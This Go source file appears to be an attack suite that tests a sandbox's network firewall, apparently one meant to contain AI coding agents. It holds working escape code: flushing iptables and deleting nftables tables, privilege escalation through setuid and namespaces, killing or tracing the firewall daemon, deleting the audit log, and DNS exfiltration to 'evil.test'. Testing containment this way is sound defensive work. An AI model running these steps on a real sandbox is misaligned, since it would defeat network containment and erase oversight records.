package attack

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/vishvananda/netlink"
	"github.com/vishvananda/netlink/nl"
	"golang.org/x/sys/unix"
)

// Where the attempts find what belongs to the firewall, set by the runner.
const (
	StateEnv  = "SBX_ATTACK_STATE"  // folder of the audit log
	PolicyEnv = "SBX_ATTACK_POLICY" // the policy file
	SetuidEnv = "SBX_ATTACK_SETUID" // a copy of this program with root's setuid bit
	OverEnv   = "SBX_ATTACK_OVER"   // a file that appears when an event is over
)

// firewallMark is the mark of the resolver's own packets, see cmd/sbx-init.
const firewallMark = 0x736278

// privilegeAttacks try to become somebody who may take the firewall down.
func privilegeAttacks() []Attack {
	const family = "privileges"
	wall := func(id, tries, source string, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Source: source, Do: do, Wall: true, Needs: "root"}
	}
	return []Attack{
		wall("become-root", "change the user to root, then flush the rules", "", func(*Agent) error {
			return all(unix.Setresuid(0, 0, 0), flush())
		}),
		wall("su", "su, then flush the rules", "", func(*Agent) error { return runFor(flushLimit, "su", "root", "-c", flushScript) }),
		{ID: "setuid-program", Family: family, Tries: "a program with root's setuid bit that sends past the packet filter",
			Source: "sudo in the image, Trail of Bits' template",
			Leak:   func(e Event) bool { return containsWord(e, "leak-packet-socket") }, Do: func(*Agent) error {
				return again(os.Getenv(SetuidEnv), nil, "packet-socket", "packet-socket-6", "raw-udp")
			}},
		wall("user-namespace", "a user namespace of one's own, with all capabilities in it, then flush the rules",
			"egress-filter, namespaces", func(*Agent) error {
				return inNamespace(syscall.CLONE_NEWUSER, "/bin/sh", "-c", flushScript)
			}).vacuous("capabilities in it are none over the network of another"),
		{ID: "user-namespace-packets", Family: family, Tries: "raw packets from a user namespace of one's own",
			Vacuous: "capabilities in it are none over the network of another",
			Do: func(*Agent) error {
				return again("/proc/self/exe",
					&syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: mapping(), GidMappings: groupMapping()}, "packet-socket",
					"raw-udp", "icmp-raw", "arp-spoof")
			}},
		{ID: "user-namespace-dns", Family: family, Tries: "questions as root of a user namespace: root may ask where an engine has its resolver",
			Leak: asked("evil.test"),
			Do: func(*Agent) error {
				return again("/proc/self/exe",
					&syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: mapping(), GidMappings: groupMapping()}, "dns-udp-public",
					"dns-tcp-public", "dns-udp-upstream")
			}},
		{ID: "network-namespace", Family: family, Tries: "a network namespace of one's own", Vacuous: "it has no way out",
			Do: func(*Agent) error {
				return again("/proc/self/exe", &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET, UidMappings: mapping(),
					GidMappings: groupMapping()}, "udp4", "tcp4")
			}},
		{ID: "ip-netns", Family: family, Tries: "the network namespaces of other processes, and named ones",
			Vacuous: "it would reach the machine that the tests run on",
			Do: func(*Agent) error {
				paths, _ := filepath.Glob("/run/netns/*")
				var failed []error
				for _, path := range append(paths, "/proc/1/ns/net") {
					failed = append(failed, run("nsenter", "--net="+path, "true"))
				}
				return all(failed...)
			}},
		{ID: "socket-mark", Family: family, Tries: "the mark of the resolver's packets on one's own", Needs: "NET_ADMIN",
			Do: func(a *Agent) error {
				return send("udp", system, pack(query(a.word+".evil.test", typeA)), func(fd int) error {
					return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, firewallMark)
				})
			}},
		{ID: "transparent", Family: family, Tries: "somebody else's address as one's own (IP_TRANSPARENT)", Needs: "NET_ADMIN",
			Do: func(a *Agent) error {
				return a.socket(a.evil4(443), unix.SOCK_DGRAM, 0, func(fd int) error {
					return all(unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_TRANSPARENT, 1),
						unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 98}}))
				})
			}},
		wall("tun-device", "a network device of one's own", "", func(a *Agent) error {
			fd, err := unix.Open("/dev/net/tun", unix.O_RDWR|unix.O_CLOEXEC, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			request, err := unix.NewIfreq("leak0")
			if err != nil {
				return err
			}
			request.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
			return unix.IoctlIfreq(fd, unix.TUNSETIFF, request)
		}).holds(),
		wall("ebpf", "a program of one's own in the kernel", "", func(*Agent) error {
			// return 0: BPF_MOV64_IMM r0, 0; BPF_EXIT
			code := []uint64{0xb7, 0x95}
			licence := []byte("GPL\x00")
			attr := struct {
				kind, count      uint32
				insns, licence   uint64
				level, size      uint32
				log              uint64
				version, flags   uint32
				name             [16]byte
				ifindex, expects uint32
			}{kind: 8 /* BPF_PROG_TYPE_CGROUP_SKB */, count: 2, insns: uint64(uintptr(unsafe.Pointer(&code[0]))),
				licence: uint64(uintptr(unsafe.Pointer(&licence[0])))}
			// The kernel gives up when a signal is pending, as Go's own ones may be.
			fd, errno := uintptr(0), unix.EAGAIN
			for tries := 0; errno == unix.EAGAIN && tries < 100; tries++ {
				fd, _, errno = unix.Syscall(unix.SYS_BPF, 5 /* BPF_PROG_LOAD */, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
			}
			if errno != 0 {
				return fmt.Errorf("bpf: %w", errno)
			}
			return unix.Close(int(fd))
		}).holds(),
	}
}

// wallAttacks try to change what stands, or to end who stands there.
func wallAttacks() []Attack {
	const family = "the firewall itself"
	wall := func(id, tries, source string, do func(*Agent) error) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Source: source, Do: do, Wall: true, Needs: "root"}
	}
	daemon := func(a *Agent, do func() error) error {
		if a.daemon <= 1 && a.daemon != os.Getppid() {
			return errors.New("the firewall's process cannot be seen")
		}
		return do()
	}
	return []Attack{
		wall("flush-rules", "flush the rules with iptables", "claude-code, sudo in the container", func(*Agent) error { return flush() }),
		wall("flush-rules-netlink", "delete the tables by netlink, without a program", "", func(*Agent) error { return deleteTables() }),
		wall("open-set", "put an address into the set of allowed ones", "", func(a *Agent) error {
			port, tcp := uint16(443), uint8(unix.IPPROTO_TCP)
			return netlink.IpsetAdd("SBX-STATIC4", &netlink.IPSetEntry{IP: a.v4.AsSlice(), CIDR: 32, Port: &port, Protocol: &tcp})
		}),
		wall("forget-connections", "make the kernel forget its connections", "", func(*Agent) error {
			return netlink.ConntrackTableFlush(netlink.ConntrackTable)
		}).holds(),
		wall("link-down-up", "take the interface down and up again", "", func(*Agent) error {
			link, err := netlink.LinkByName("eth0")
			return all(err, func() error {
				if err != nil {
					return err
				}
				err := all(netlink.LinkSetDown(link), netlink.LinkSetUp(link))
				_, gateway, _ := net.ParseCIDR("0.0.0.0/0")
				return all(err, netlink.RouteReplace(&netlink.Route{Dst: gateway, Gw: net.ParseIP(gatewayAddr)}))
			}())
		}).holds(),
		wall("other-route", "another route to the outside", "", func(a *Agent) error {
			link, err := netlink.LinkByName("eth0")
			if err != nil {
				return err
			}
			return netlink.RouteReplace(&netlink.Route{LinkIndex: link.Attrs().Index,
				Dst: &net.IPNet{IP: a.v4.AsSlice(), Mask: net.CIDRMask(32, 32)}, Gw: net.ParseIP(gatewayAddr)})
		}).holds(),
		wall("kernel-settings", "the kernel's settings of this network", "", func(*Agent) error {
			return all(write("/proc/sys/net/ipv4/ip_forward", "1"), write("/proc/sys/net/ipv4/conf/all/route_localnet", "1"))
		}).holds(),
		wall("kill-daemon", "kill the firewall's process", "", func(a *Agent) error {
			return daemon(a, func() error { return syscall.Kill(a.daemon, syscall.SIGKILL) })
		}).holds(),
		wall("stop-daemon", "stop the firewall's process", "", func(a *Agent) error {
			return daemon(a, func() error { return syscall.Kill(a.daemon, syscall.SIGSTOP) })
		}).holds(),
		wall("trace-daemon", "trace the firewall's process", "", func(a *Agent) error {
			return daemon(a, func() error {
				return all(unix.PtraceAttach(a.daemon))
			})
		}).holds(),
		wall("write-daemon-memory", "write into the firewall's memory", "", func(a *Agent) error {
			return daemon(a, func() error {
				f, err := os.OpenFile("/proc/"+strconv.Itoa(a.daemon)+"/mem", os.O_RDWR, 0)
				if err == nil {
					f.Close()
				}
				return err
			})
		}).holds(),
		wall("take-daemon-socket", "take one of the firewall's open sockets", "", func(a *Agent) error {
			return daemon(a, func() error {
				pidfd, err := unix.PidfdOpen(a.daemon, 0)
				if err != nil {
					return err
				}
				defer unix.Close(pidfd)
				for fd := 3; fd < 20; fd++ {
					var got int
					if got, err = unix.PidfdGetfd(pidfd, fd, 0); err == nil {
						unix.Close(got)
						return nil
					}
				}
				return err
			})
		}).holds(),
		wall("daemon-network", "the firewall's own view of the network (/proc/PID/ns)", "", func(a *Agent) error {
			return daemon(a, func() error {
				_, err := os.Readlink("/proc/" + strconv.Itoa(a.daemon) + "/ns/net")
				return err
			})
		}).holds(),
		wall("take-resolver-port", "kill the firewall's process and take its port", "", func(a *Agent) error {
			err := daemon(a, func() error { return syscall.Kill(a.daemon, syscall.SIGKILL) })
			if err != nil {
				return err
			}
			var pc net.PacketConn
			for range 200 {
				if pc, err = net.ListenPacket("udp", "127.0.0.1:1053"); err == nil {
					defer pc.Close()
					break
				}
				time.Sleep(5 * time.Millisecond)
			}
			_, _ = exchange("udp", system, patience, pack(query(a.word+".evil.test", typeA)))
			return err
		}).holds(),
		wall("reload-command", "tell the firewall to reload", "", func(*Agent) error { return control("reload") }).holds(),
		wall("change-policy", "change the policy file, then reload", "", func(*Agent) error {
			return all(write(os.Getenv(PolicyEnv), `{"network": {"allow": ["`+evilNet4.String()+`:443"]}}`), control("reload"))
		}),
		wall("change-effective-policy", "change the policy that is shown as being in force", "", func(*Agent) error {
			return write(filepath.Join(os.Getenv(StateEnv), "policy.json"), `{"network": {"mode": "host"}}`)
		}).holds(),
		wall("remove-log", "remove the audit log", "", func(*Agent) error {
			return os.Remove(filepath.Join(os.Getenv(StateEnv), "audit.jsonl"))
		}).holds(),
		wall("cover-resolv-conf", "mount a file over /etc/resolv.conf", "", func(a *Agent) error {
			err := unix.Mount("/dev/null", "/etc/resolv.conf", "", unix.MS_BIND, "")
			return all(err, func() error { _ = a.ask(a.evil4(53), "evil.test", typeA); return nil }())
		}).holds(),
	}
}

// lifeAttacks go on while something befalls the firewall.
func lifeAttacks() []Attack {
	const family = "the firewall's life"
	event := func(id, tries, event string) Attack {
		return Attack{ID: id, Family: family, Tries: tries, Event: event, Do: (*Agent).hammer}
	}
	expired := Attack{ID: "expired-address", Family: family, Tries: "an address whose time is over, which may be somebody else's by now",
		Slow: true, Do: func(a *Agent) error {
			err := learn("ok.test")
			time.Sleep(70 * time.Second) // least time to live 5 s, 60 s of grace, and some
			return all(err, shake(at(okAddr, 443), "ok.test"), a.tcp(at(okAddr, 443)))
		}}
	expired.Leak = site(okAddr, "ok.test")
	return []Attack{
		event("first-instruction", "try everything from the very first moment on", "start"),
		event("daemon-dies", "try everything while the firewall's process is killed", "kill"),
		event("daemon-stops", "try everything while the firewall's process is stopped", "stop"),
		event("daemon-returns", "try everything while it is killed and started again", "restart"),
		event("policy-reloads", "try everything while policies are reloaded", "reload"),
		event("start-fails", "try everything after a start that failed over a broken policy", "broken"),
		expired,
	}
}

func (a Attack) holds() Attack {
	a.Holds = true
	return a
}

// hammer tries to reach the outside until the event is over.
func (a *Agent) hammer() error {
	over := os.Getenv(OverEnv)
	for begin := time.Now(); time.Since(begin) < 30*time.Second; {
		_ = send("udp", a.evil4(443), []byte(a.word), nil)
		_ = send("udp", a.evil6(443), []byte(a.word), nil)
		_ = send("udp", at(upstreamAddr, 5353), []byte(a.word), nil)
		_ = a.socket(a.evil4(443), unix.SOCK_STREAM, 0, nil)
		_ = a.socket(a.evil6(443), unix.SOCK_STREAM, 0, nil)
		_, _ = exchange("udp", system, 10*time.Millisecond, pack(query(a.word+".evil.test", typeA)))
		if _, err := os.Stat(over); err == nil {
			return nil
		}
	}
	return errors.New("the event has not ended")
}

// flushScript flushes the rules of each backend. It judges by the programs' own
// answers: what it has flushed may be restored while it goes on.
const flushScript = `flushed=1
for t in iptables ip6tables; do for b in nft legacy; do
	$t-$b -w 10 -P OUTPUT ACCEPT && $t-$b -w 10 -P INPUT ACCEPT && $t-$b -w 10 -F && $t-$b -w 10 -t nat -F || continue
	[ $t-$b != iptables-nft ] || flushed=0; done; done 2>/dev/null
exit $flushed`

// flushLimit bounds the script: sixteen programs one after another, each of which waits
// up to 10 s for a lock that all sandboxes of the machine share.
const flushLimit = 60 * time.Second

func flush() error { return runFor(flushLimit, "/bin/sh", "-c", flushScript) }

// deleteTables deletes the nft tables that iptables makes.
func deleteTables() error {
	var failed []error
	for _, family := range []uint8{unix.AF_INET, unix.AF_INET6} {
		for _, table := range []string{"filter", "nat", "mangle"} {
			failed = append(failed, deleteTable(family, table))
		}
	}
	return all(failed...)
}

// deleteTable is one transaction of nf_tables: begin, delete, end.
func deleteTable(family uint8, table string) error {
	message := func(kind, flags uint16, family uint8, resource uint16, attrs []byte) []byte {
		b := make([]byte, 16, 64)
		b = append(b, family, 0, byte(resource>>8), byte(resource))
		b = append(b, attrs...)
		nl.NativeEndian().PutUint32(b[0:], uint32(len(b)))
		nl.NativeEndian().PutUint16(b[4:], kind)
		nl.NativeEndian().PutUint16(b[6:], flags)
		return b
	}
	name := nl.NewRtAttr(unix.NFTA_TABLE_NAME, nl.ZeroTerminated(table)).Serialize()
	const subsystem = unix.NFNL_SUBSYS_NFTABLES
	batch := message(unix.NFNL_MSG_BATCH_BEGIN, unix.NLM_F_REQUEST, 0, subsystem, nil)
	batch = append(batch, message(subsystem<<8|unix.NFT_MSG_DELTABLE, unix.NLM_F_REQUEST|unix.NLM_F_ACK, family, 0, name)...)
	batch = append(batch, message(unix.NFNL_MSG_BATCH_END, unix.NLM_F_REQUEST, 0, subsystem, nil)...)
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_NETFILTER)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, batch, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 4096)
	n, err := unix.Read(fd, answer)
	if err != nil || n < 20 {
		return all(err, errors.New("no answer"))
	}
	if code := int32(nl.NativeEndian().Uint32(answer[16:])); code != 0 {
		return fmt.Errorf("deleting the table %s: %w", table, syscall.Errno(-code))
	}
	return nil
}

// control speaks to the firewall's socket.
func control(command string) error {
	var conn net.Conn
	var err error
	for _, dir := range []string{"", "-control"} { // beside the log, or beside its folder
		if conn, err = net.Dial("unix", filepath.Join(os.Getenv(StateEnv)+dir, "control.sock")); err == nil {
			break
		}
	}
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if err := json.NewEncoder(conn).Encode(map[string]string{"command": command}); err != nil {
		return err
	}
	answer, err := io.ReadAll(conn)
	var r struct{ Code int }
	if err == nil {
		err = json.Unmarshal(answer, &r)
	}
	if err == nil && r.Code != 0 {
		err = errors.New(string(answer))
	}
	return err
}

// again starts this program anew for some of the other attacks.
func again(program string, attr *syscall.SysProcAttr, ids ...string) error {
	cmd := exec.Command(program, "0")
	cmd.SysProcAttr = attr
	cmd.Stdin = strings.NewReader(strings.Join(ids, "\n") + "\n")
	out, err := cmd.CombinedOutput()
	if err == nil && !strings.Contains(string(out), " ok") {
		err = errors.New(string(out))
	}
	return err
}

func inNamespace(flags uintptr, argv ...string) error {
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: flags, UidMappings: mapping(), GidMappings: groupMapping()}
	out, err := cmd.CombinedOutput()
	if err != nil {
		err = fmt.Errorf("%w: %s", err, out)
	}
	return err
}

func mapping() []syscall.SysProcIDMap {
	return []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}
}

func groupMapping() []syscall.SysProcIDMap {
	return []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}}
}
